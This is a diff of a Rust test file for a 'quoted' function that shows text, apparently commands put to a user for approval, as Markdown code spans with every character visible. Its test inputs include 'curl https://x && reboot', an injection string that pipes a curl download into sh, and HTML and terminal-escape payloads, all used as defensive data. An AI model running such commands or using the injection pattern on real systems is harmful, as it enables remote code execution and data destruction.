@@ -2,25 +2,41 @@
 
 use elicit_core::{Elicit, quoted};
 use proptest::prelude::*;
+use pulldown_cmark::{Event, Options, Parser};
 
 #[test]
-fn everything_can_be_seen() {
+fn a_quoted_text_is_a_code_span_with_every_character_visible() {
     for (text, shown) in [
-        ("", "“”"),
-        ("curl https://x && reboot", "“curl https://x && reboot”"),
-        ("say \"it's\" `so`", "“say \"it's\" `so`”"),
-        ("äöü 日本語 🙂", "“äöü 日本語 🙂”"),
-        ("one\ntwo\r\n\tthree\0", r"“one\ntwo\r\n\tthree\u{0}”"),
-        ("\u{1b}[2Jls", r"“\u{1b}[2Jls”"),
+        ("", "` `"),
+        ("curl https://x && reboot", "`curl https://x && reboot`"),
+        ("rm __cache__", "`rm __cache__`"),
+        ("**", "`**`"),
+        (
+            "ls [src](;curl${IFS}https://example.org/x|sh)",
+            "`ls [src](;curl${IFS}https://example.org/x|sh)`",
+        ),
+        ("a &amp; b &lt;", "`a &amp; b &lt;`"),
+        ("<img src=x>", "`<img src=x>`"),
+        ("äöü 日本語 🙂", "`äöü 日本語 🙂`"),
+        ("one\ntwo\r\n\tthree\0", r"`one\ntwo\r\n\tthree\u{0}`"),
+        ("\u{1b}[2Jls", r"`\u{1b}[2Jls`"),
         (
             "a\u{200b}b\u{202e}c\u{200d}d",
-            r"“a\u{200b}b\u{202e}c\u{200d}d”",
+            r"`a\u{200b}b\u{202e}c\u{200d}d`",
         ),
-        ("a\u{a0}b\u{2028}", r"“a\u{a0}b\u{2028}”"),
+        ("a\u{a0}b\u{2028}", r"`a\u{a0}b\u{2028}`"),
         // What looks like the end, or like an escape, is neither.
-        ("ls”, and nothing else", r"“ls\u{201d}, and nothing else”"),
-        (r"C:\new\u{200b}", r"“C:\\new\\u{200b}”"),
-        ("  ", "“  ”"),
+        ("ls`, and nothing else", "``ls`, and nothing else``"),
+        (r"C:\new\u{200b}", r"`C:\\new\\u{200b}`"),
+        // Markdown removes the padding, and nothing else.
+        ("say \"it's\" `so`", "`` say \"it's\" `so` ``"),
+        ("`", "`` ` ``"),
+        ("``a` b", "``` ``a` b ```"),
+        (" a", "` a`"),
+        ("a ", "`a `"),
+        (" a ", "`  a  `"),
+        ("` ", "`` `  ``"),
+        ("  ", r"`\u{20}\u{20}`"),
     ] {
         assert_eq!(quoted(text).to_string(), shown);
         assert_eq!(format!("{:?}", quoted(text)), shown);
@@ -39,9 +55,10 @@ struct Visible {
 fn no_character_hides() {
     let is_shown = |character: &char| {
         let shown = quoted(character.encode_utf8(&mut [0; 4])).to_string();
-        shown == format!("“{character}”")
+        shown == format!("`{character}`")
     };
-    let all = ('\0'..=char::MAX).filter(|character| *character != ' ');
+    // A space alone is escaped, and a backtick is in longer fences.
+    let all = ('\0'..=char::MAX).filter(|character| !matches!(character, ' ' | '`'));
     let text: String = all.filter(is_shown).collect();
     let content = serde_json::json!({"text": text});
     let visible = elicit_core::from_value::<Visible>(&content).unwrap();
@@ -52,26 +69,55 @@ fn no_character_hides() {
 #[test]
 fn it_is_cut_where_the_author_asks_and_counts_what_is_missing() {
     for (most, shown) in [
-        (0, "“”… (5 more characters)"),
-        (3, r"“ä\nb”… (2 more characters)"),
-        (
-            4,
-            r"“ä\nb”… (1 more character)".replace("b”", "b🙂”").as_str(),
-        ),
-        (5, r"“ä\nb🙂c”"),
-        (usize::MAX, r"“ä\nb🙂c”"),
+        (0, "` `… (5 more characters)"),
+        (3, r"`ä\nb`… (2 more characters)"),
+        (4, r"`ä\nb🙂`… (1 more character)"),
+        (5, r"`ä\nb🙂c`"),
+        (usize::MAX, r"`ä\nb🙂c`"),
     ] {
         assert_eq!(quoted("ä\nb🙂c").at_most(most).to_string(), shown);
     }
 }
 
-/// The text that is quoted.
-fn unquoted(shown: &str) -> String {
-    let inner = shown.strip_prefix('“').unwrap().strip_suffix('”').unwrap();
+/// What a client shows of a message that renders it as Markdown: the text in its only code span.
+/// Everything else is the author's.
+fn rendered(message: &str, options: Options) -> String {
+    let (mut code, mut rest) = (Vec::new(), String::new());
+    for event in Parser::new_ext(message, options) {
+        match event {
+            Event::Code(text) => code.push(text.to_string()),
+            Event::Text(text) => rest.push_str(&text),
+            Event::Start(_) | Event::End(_) => {}
+            other => panic!("{message:?}: {other:?}"),
+        }
+    }
+    assert_eq!(rest, "Run  on this machine?", "{message:?}");
+    let [code] = &code[..] else {
+        panic!("{message:?}: {code:?}")
+    };
+    code.clone()
+}
+
+/// What a person reads who sees the fence: up to the next one that is as long.
+fn read(message: &str) -> String {
+    let span = message.strip_prefix("Run ").unwrap();
+    let fence = &span[..span.len() - span.trim_start_matches('`').len()];
+    let inner = span.strip_prefix(fence).unwrap();
+    let end = inner.match_indices(fence).map(|(end, _)| end);
+    let end = end.min().unwrap();
+    assert_eq!(&inner[end + fence.len()..], " on this machine?");
+    let inner = &inner[..end];
+    let padded = inner
+        .strip_prefix(' ')
+        .and_then(|text| text.strip_suffix(' '));
+    padded.unwrap_or(inner).to_owned()
+}
+
+/// The text that was escaped.
+fn unescaped(line: &str) -> String {
     let mut text = String::new();
-    let mut rest = inner.chars();
+    let mut rest = line.chars();
     while let Some(character) = rest.next() {
-        assert!(!matches!(character, '“' | '”'), "{shown}");
         let character = match character {
             '\\' => match rest.next().unwrap() {
                 'n' => '\n',
@@ -93,7 +139,29 @@ fn unquoted(shown: &str) -> String {
 
 proptest! {
     #[test]
-    fn nothing_is_lost(text in r"([ -~]|[\\“”\n\r\t\u{200b}\u{202e}\u{e0041}é🙂]|\PC|\pC){0,40}") {
-        prop_assert_eq!(unquoted(&quoted(&text).to_string()), text);
+    fn no_character_is_lost_in_markdown_or_in_plain_text(
+        text in r"([ -~]|[`\\“”\n\r\t\u{200b}\u{202e}\u{e0041}é🙂 ]|[`* _<&]|\PC|\pC){1,40}",
+    ) {
+        let message = format!("Run {} on this machine?", quoted(&text));
+        for options in [Options::empty(), Options::all()] {
+            prop_assert_eq!(unescaped(&rendered(&message, options)), &*text);
+        }
+        prop_assert_eq!(unescaped(&read(&message)), text);
+    }
+}
+
+/// A fence at the beginning of a line is no block of code, since it ends in that line.
+#[test]
+fn a_message_that_begins_with_a_quoted_text_shows_it() {
+    for text in [
+        "```", "~~~", "# a", "- a", "    a", "> a", "1. a", "|a|\n|-|", "---",
+    ] {
+        let message = quoted(text).to_string();
+        let events: Vec<_> = Parser::new_ext(&message, Options::all()).collect();
+        let code = events.iter().find_map(|event| match event {
+            Event::Code(code) => Some(unescaped(code)),
+            _ => None,
+        });
+        assert_eq!(code.as_deref(), Some(text), "{events:?}");
     }
 }
